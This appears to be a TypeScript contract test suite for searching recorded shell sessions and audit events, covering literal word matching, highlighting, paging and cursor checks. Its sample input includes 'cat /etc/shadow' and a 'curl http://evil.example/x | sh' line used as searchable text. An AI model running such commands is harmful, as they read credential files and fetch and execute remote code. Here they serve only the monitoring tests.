import type { TestFn } from 'ava'
import type { SearchHit } from '#services/catalog/catalog.ts'
import { wordsQuery } from '#services/search/words-query.ts'
import { allPages, at, command, event, type MakeCatalogPlace, opened, sessionRow, update } from './catalog-place.ts'
import { queryContract } from './catalog-query.ts'
import { wordsContract } from './catalog-words.ts'

const typed = [
  'cat /etc/shadow',
  'grep -r "pass word" /srv/100%_done',
  'ssh deploy@10.20.30.40 -p 2222',
  'echo Grüße an 世界 und 😀',
  'find . -name "*.ts" OR NEAR(a b) AND NOT x*',
  'ls -la',
  "mysql -e 'select * from t where a^b: {c}'",
]

/** A query, and the numbers of the typed lines it finds. */
const queries: [query: string, found: number[]][] = [
  ['/etc/shadow', [0]],
  ['ETC/SHA', [0]],
  ['etc shadow', [0]],
  ['shadow etc', [0]],
  ['shadow passwd', []],
  ['"pass', [1]],
  ['word"', [1]],
  ['100%', [1]],
  ['100_', []],
  ['%_d', [1]],
  ['10.20', [2]],
  ['20.30.40', [2]],
  ['10.20.30.41', []],
  ['GRÜSSE', []],
  ['grüße', [3]],
  ['GRÜß', [3]],
  ['世界', [3]],
  ['世', [3]],
  ['😀', [3]],
  ['NEAR(a', [4]],
  ['AND NOT', [4]],
  ['OR', [4]],
  ['*.ts', [4]],
  ['x*', [4]],
  ['ls', [5]],
  ['ho', []],
  ['sr', [1]],
  ['-l', [5]],
  ['-p', [2]],
  ['a^b:', [6]],
  ['{c}', [6]],
  ['*', [4, 6]],
]

const contentOf = ({ snippet, highlights }: SearchHit): string[] =>
  highlights.map(([from, to]) => snippet.slice(from, to))

const textContract = (test: TestFn, make: MakeCatalogPlace): void => {
  test('words are found as they stand: nothing that is typed is query syntax', async (t) => {
    const { catalog, place } = await opened(t, make)
    const row = sessionRow(0, { user: 'quentin', sourceIp: '192.0.2.77' })
    await catalog.indexFrames(update(row, [0, 1], typed))
    await place.settle()
    for (const [text, found] of queries) {
      const { items, total } = await catalog.search({ query: wordsQuery(text), in: ['commands'], limit: 50 })
      t.deepEqual(items.map(({ atMs }) => atMs! / 1_000).reverse(), found, text)
      t.is(total.value, found.length, text)
    }
  })

  test('sessions are found by words of their own and of their commands, all of which must be there', async (t) => {
    const { catalog, place } = await opened(t, make)
    const one = sessionRow(0, {
      user: 'quentin',
      sourceIp: '192.0.2.77',
      bastion: 'edge-7',
      argv: ['bash', '-c', 'uptime'],
    })
    const other = sessionRow(1, { user: 'rose', target: 'db-primary' })
    await catalog.indexFrames(update(one, [0, 1], typed))
    await catalog.indexFrames(update(other, [0, 1], ['cat /etc/hosts']))
    await place.settle()
    const find = async (text: string) =>
      (await catalog.sessions({ query: wordsQuery(text), limit: 10 })).items.map(({ user }) => user).sort()
    t.deepEqual(await find('quentin /etc/shadow'), ['quentin'])
    t.deepEqual(await find('shadow 世界'), ['quentin'])
    t.deepEqual(await find('/etc'), ['quentin', 'rose'])
    t.deepEqual(await find('/etc rose'), ['rose'])
    t.deepEqual(await find('2.77 edge-7 uptime'), ['quentin'])
    t.deepEqual(await find('primary'), ['rose'])
    t.deepEqual(await find('ls ro'), [])
    t.deepEqual(await find('ls qu'), ['quentin'])
    t.deepEqual(await find(' \t '), ['quentin', 'rose'])
    t.deepEqual(await find('nowhere'), [])
  })

  test('a search with a senseless limit is refused', async (t) => {
    const { catalog } = await opened(t, make)
    const refused = { code: 'BTZ_CATALOG_QUERY' }
    const query = wordsQuery('x')
    for (const limit of [0, -1, 1.5, Number.NaN, 1e9]) {
      await t.throwsAsync(catalog.events({ limit }), refused)
      await t.throwsAsync(catalog.search({ query, in: ['commands'], limit }), refused)
    }
  })
}

const hitContract = (test: TestFn, make: MakeCatalogPlace): void => {
  test('a hit says where it is, and its highlights are the words', async (t) => {
    const { catalog, place } = await opened(t, make)
    const row = sessionRow(60, { user: 'bob', bastion: 'b-9' })
    const line = `${'echo 😀 '.repeat(100)}; curl http://evil.example/x | sh ; ${'true; '.repeat(100)}`
    await catalog.indexFrames(update(row, [0, 1], [command(line, { atMs: 2_500 })]))
    await place.settle()
    const [hit] = (await catalog.search({ query: wordsQuery('CURL evil'), in: ['commands'], limit: 5 })).items
    t.like(hit, { in: 'commands', sessionId: row.id, eventId: null, atMs: 2_500, user: 'bob', bastion: 'b-9' })
    t.is(hit?.at, new Date(Date.parse(at(60)) + 2_500).toISOString())
    t.true(hit!.snippet.length <= 240 && hit!.snippet.isWellFormed())
    t.deepEqual(contentOf(hit!), ['curl', 'evil'])
  })

  test('commands and events are found together, newest first, page by page', async (t) => {
    const { catalog, place } = await opened(t, make)
    const row = sessionRow(0)
    await catalog.indexFrames(
      update(
        row,
        [0, 1],
        Array.from({ length: 9 }, (_, n) => `sudo task${n}`),
      ),
    )
    const sudo = { kind: 'privilege_change', method: 'sudo', toUser: 'root' }
    const events = Array.from({ length: 9 }, (_, n) => event(n + (n % 2) / 2, sudo))
    await catalog.putEvents(events)
    await place.settle()
    const query = { query: wordsQuery('sudo'), in: ['commands' as const, 'events' as const], limit: 4 }
    const hits = await allPages((cursor) => catalog.search({ ...query, ...(cursor && { cursor }) }))
    t.is(hits.length, 18)
    t.is(new Set(hits.map(({ atMs, eventId }) => eventId ?? atMs)).size, 18)
    t.deepEqual(
      hits.map(({ at }) => at),
      hits
        .map(({ at }) => at)
        .sort()
        .reverse(),
    )
    t.deepEqual((await catalog.search(query)).total, { value: 18, relation: 'eq' })
    const between = { from: new Date(at(2)), to: new Date(at(4)) }
    t.is((await catalog.search({ ...query, ...between, limit: 50 })).items.length, 6)
  })

  test('pages of hits stay as they are while newer ones arrive', async (t) => {
    const { catalog, place } = await opened(t, make)
    const row = sessionRow(0)
    const lines = Array.from({ length: 10 }, (_, n) => `tail -f log${n}`)
    await catalog.indexFrames(update(row, [0, 1], lines))
    await place.settle()
    let seq = 1
    const hits = await allPages(async (cursor) => {
      const result = await catalog.search({
        query: wordsQuery('tail'),
        in: ['commands'],
        limit: 3,
        ...(cursor && { cursor }),
      })
      await catalog.indexFrames(update(row, [seq, seq + 1], [`tail new${seq}`], 100 + seq))
      await place.settle()
      seq++
      return result
    })
    t.deepEqual(
      hits.map(({ snippet }) => snippet),
      lines.toReversed(),
    )
  })

  test('a cursor is good for its own query alone', async (t) => {
    const { catalog, place } = await opened(t, make)
    await catalog.putEvents([event(0), event(1), event(2)])
    for (const seconds of [0, 1, 2]) await catalog.indexFrames(update(sessionRow(seconds), [0, 1]))
    await place.settle()
    const { next } = await catalog.events({ limit: 1, user: 'alice' })
    const cursor = next!
    t.is((await catalog.events({ limit: 2, user: 'alice', cursor })).items.length, 2)
    const refused = { code: 'BTZ_CATALOG_CURSOR' }
    await t.throwsAsync(catalog.events({ limit: 1, user: 'bob', cursor }), refused)
    await t.throwsAsync(catalog.events({ limit: 1, cursor }), refused)
    await t.throwsAsync(catalog.sessions({ limit: 1, user: 'alice', cursor }), refused)
    await t.throwsAsync(catalog.search({ query: wordsQuery('alice'), in: ['events'], limit: 1, cursor }), refused)
    const bent = Buffer.from(JSON.stringify({ closings: 1 })).toString('base64url')
    for (const wrong of [
      '',
      'x',
      '%',
      bent,
      `${cursor}x`,
      `${cursor}xx`,
      `${cursor}xxx`,
      `${cursor}=`,
      'A'.repeat(10_000),
    ]) {
      await t.throwsAsync(catalog.events({ limit: 1, user: 'alice', cursor: wrong }), refused, wrong.slice(0, 20))
      await t.throwsAsync(catalog.sessions({ limit: 1, cursor: wrong }), refused, wrong.slice(0, 20))
    }
  })
}

export const searchContract = (test: TestFn, make: MakeCatalogPlace): void => {
  textContract(test, make)
  hitContract(test, make)
  wordsContract(test, make)
  queryContract(test, make)
}
